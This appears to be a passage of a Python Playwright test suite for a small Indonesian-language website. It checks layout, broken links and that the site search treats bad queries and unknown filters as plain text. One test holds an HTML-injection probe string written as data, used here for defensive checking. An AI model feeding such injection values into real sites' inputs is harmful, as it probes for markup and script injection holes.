            page.goto(page_url(uneven_site, kind))
            assert page.evaluate(OVERFLOWING) == [], kind
            assert page.evaluate(MONEY_ON_ONE_LINE) == [], kind
            text = page.inner_text("body")
            assert not {"NaN", "None", "undefined", "Rp0 "} & set(
                text.replace("\n", " ").split(" ")
            ), kind
        base, data, site_dir = uneven_site
        page.goto(base)
        assert page.inner_text("[data-figure=programs]") == str(len(data["programs"]))
        assert broken_links(site_dir) == []  # e.g. no annual report of a year without one
    finally:
        page.close()


def test_search_takes_bad_queries_and_filters_as_text(browser, site):
    base, _ = site
    visit = Visit(browser, base)
    try:
        page = visit.page
        status, texts, _ = search(page, base)
        assert status.startswith("Ketik kata yang dicari") and texts == []
        hostile = "\"'<>&<b>x</b>" + "posyandu " * 60  # 500+ characters
        status, _, _ = search(page, base, hostile)
        assert page.input_value("#cari-q") == hostile[:200]  # as much as the box takes
        assert "<b>x</b>" in status and page.locator("#search-status b").count() == 0
        status, texts, _ = search(page, base, "posyandu", sektor="tidak-ada")
        assert "Saringan yang tidak dikenal diabaikan: Sektor" in status and texts
        status, texts, _ = search(page, base, "posyandu", sektor="Lingkungan", tahun="2024")
        assert status.startswith("Tidak ada hasil") and texts == []
        assert visit.ran() == [] and visit.errors == [] and visit.offsite == []
    finally:
        visit.close()
